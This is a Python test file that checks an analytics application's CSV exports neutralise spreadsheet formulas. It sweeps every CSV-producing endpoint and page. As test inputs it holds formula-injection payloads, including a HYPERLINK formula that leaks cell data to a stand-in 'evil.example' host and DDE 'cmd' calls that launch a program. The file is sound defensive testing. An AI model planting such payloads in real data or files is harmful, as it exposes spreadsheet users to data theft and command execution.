"""Every CSV Rapport writes goes through one writer that leaves no formula live: the
writer itself, a check that no other code writes CSV, and a sweep of every endpoint
and page that answers with CSV over a workspace full of formulas."""

import csv
import io
import re
from pathlib import Path

import pytest

import rapport
from rapport.core.safe_csv import FORMULA_STARTS, csv_cell, csv_lines
from rapport.segments import services as segment_services
from rapport.segments.models import Segment
from rapport.tenancy.services import Actor
from rapport.web.urls import urlpatterns
from tests.api.operations import OPERATIONS, example_body
from tests.web.clients import signed_in

FORMULAS = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",
)


@pytest.mark.parametrize("value", FORMULAS)
def test_a_formula_becomes_text(value):
    assert csv_cell(value) == "'" + value


@pytest.mark.parametrize(
    "value", ["-12.5", "+447700900101", "42", 42, -3.5, "plain text", "a=b", "", "2026-01-31"]
)
def test_numbers_and_text_stay_as_they_are(value):
    assert csv_cell(value) == value


def test_none_is_an_empty_cell_and_lines_are_csv():
    lines = list(csv_lines([["a", None, "=1+1"], ["b,c", 2, 'say "hi"']]))
    assert lines == ["a,,'=1+1\r\n", '"b,c",2,"say ""hi"""\r\n']


def test_no_other_code_writes_csv():
    """A new export written with the csv module directly, or answering text/csv by
    itself, would skip the neutralising: it must use rapport.core.safe_csv."""
    root = Path(rapport.__file__).parent
    writers = re.compile(r"csv\.(writer|DictWriter)\(|text/csv\"|text/csv;")
    found = [
        str(path.relative_to(root))
        for path in root.rglob("*.py")
        if path.name != "safe_csv.py" and writers.search(path.read_text())
    ]
    assert found == []


# --- The sweep --------------------------------------------------------------------------

_NUMBER = re.compile(r"^[+-]?\d+(?:\.\d+)?(?:[eE][+-]?\d+)?$")


def live_formulas(text: str) -> list[str]:
    return [
        cell
        for row in csv.reader(io.StringIO(text, newline=""))
        for cell in row
        if cell.startswith(FORMULA_STARTS) and not _NUMBER.match(cell)
    ]


@pytest.fixture
def formulas(tenant):
    """Customers named and identified by formulas in the static segment the sweeps
    export, and a lifecycle stage named by one."""
    name = tenant.workspace.name
    tenant.send(
        *(
            {"type": "identify", "userId": f"{name}-f{i}", "traits": {"name": formula}}
            for i, formula in enumerate(FORMULAS)
        ),
        {"type": "identify", "userId": "=1+2", "traits": {"name": "A formula user id"}},
    )
    segment = Segment.objects.filter(workspace=tenant.workspace, kind="static").order_by(
        "created_at"
    )[0]
    segment_services.segment_members_add(
        segment=segment,
        values=[f"{name}-f{i}" for i in range(len(FORMULAS))] + ["=1+2"],
        actor=Actor.system("tests"),
    )
    stage_id = tenant.path_objects()["stage_id"]
    renamed = tenant.api("admin").patch(
        f"/api/v1/lifecycle/stages/{stage_id}", {"name": "@SUM(1+1)*cmd|' /C calc'!A0"}
    )
    assert renamed.status_code == 200
    return tenant


def _csv_answers(responses) -> dict[str, str]:
    answers = {}
    for name, response in responses:
        if response.status_code == 200 and response["Content-Type"].startswith("text/csv"):
            body = b"".join(response.streaming_content) if response.streaming else response.content
            answers[name] = body.decode()
    return answers


def _format_values(operation, schema: dict) -> list[str]:
    spec = schema["paths"][operation.path][operation.method.lower()]
    for parameter in spec.get("parameters", []):
        if parameter["name"] == "format" and parameter["in"] == "query":
            schema = parameter["schema"]
            return schema.get("enum") or [
                v for option in schema.get("anyOf", []) for v in option.get("enum", [])
            ]
    return []


def test_every_csv_endpoint_and_page_neutralises_formulas(formulas):
    from rapport.api import api

    client, values = formulas.api("admin"), formulas.path_objects()
    # Made once: making the OpenAPI document takes about half a second.
    schema = api.get_openapi_schema()
    responses = []
    for operation in OPERATIONS:
        for value in _format_values(operation, schema):
            url = operation.url(values) + f"?format={value}"
            body = example_body(operation, values)
            responses.append((url, client.request(operation.method, url, body)))
    page_client = signed_in(formulas, "admin")
    for pattern in urlpatterns:
        names = list(pattern.pattern.converters)
        if any(f"<uuid:{name}>" not in str(pattern.pattern) for name in names):
            continue  # an invitation's secret link: no data behind it to export
        path = "/" + str(pattern.pattern)
        for name in names:
            path = path.replace(f"<uuid:{name}>", values[name])
        if "segment" in path and path.rstrip("/").endswith("/export"):
            # A segment's exports are confirmed POSTs (a GET shows the confirmation).
            for value in ("csv", "google", "meta"):
                responses.append(
                    (f"{path} POST format={value}", page_client.post(path, {"format": value}))
                )
            continue
        response = page_client.get(path, {"format": "csv"})
        responses.append((f"{path}?format=csv", response))
    funnel = {"kind1": "page", "value1": "*", "kind2": "event", "value2": "Signed Up"}
    responses.append(
        ("funnel page", page_client.get("/analytics/funnel/", {**funnel, "format": "csv"}))
    )

    answers = _csv_answers(responses)
    # API: KPIs, their history, funnel, cohorts, loyalty curve, RFM, the segment's three
    # exports; pages: the period report, the funnel, the segment's three exports.
    assert len(answers) >= 14, sorted(answers)
    assert {name: found for name, text in answers.items() if (found := live_formulas(text))} == {}
    every = "\n".join(answers.values())
    for formula in (*FORMULAS, "=1+2", "@SUM(1+1)*cmd|' /C calc'!A0"):
        assert "'" + formula.replace('"', '""') in every, formula
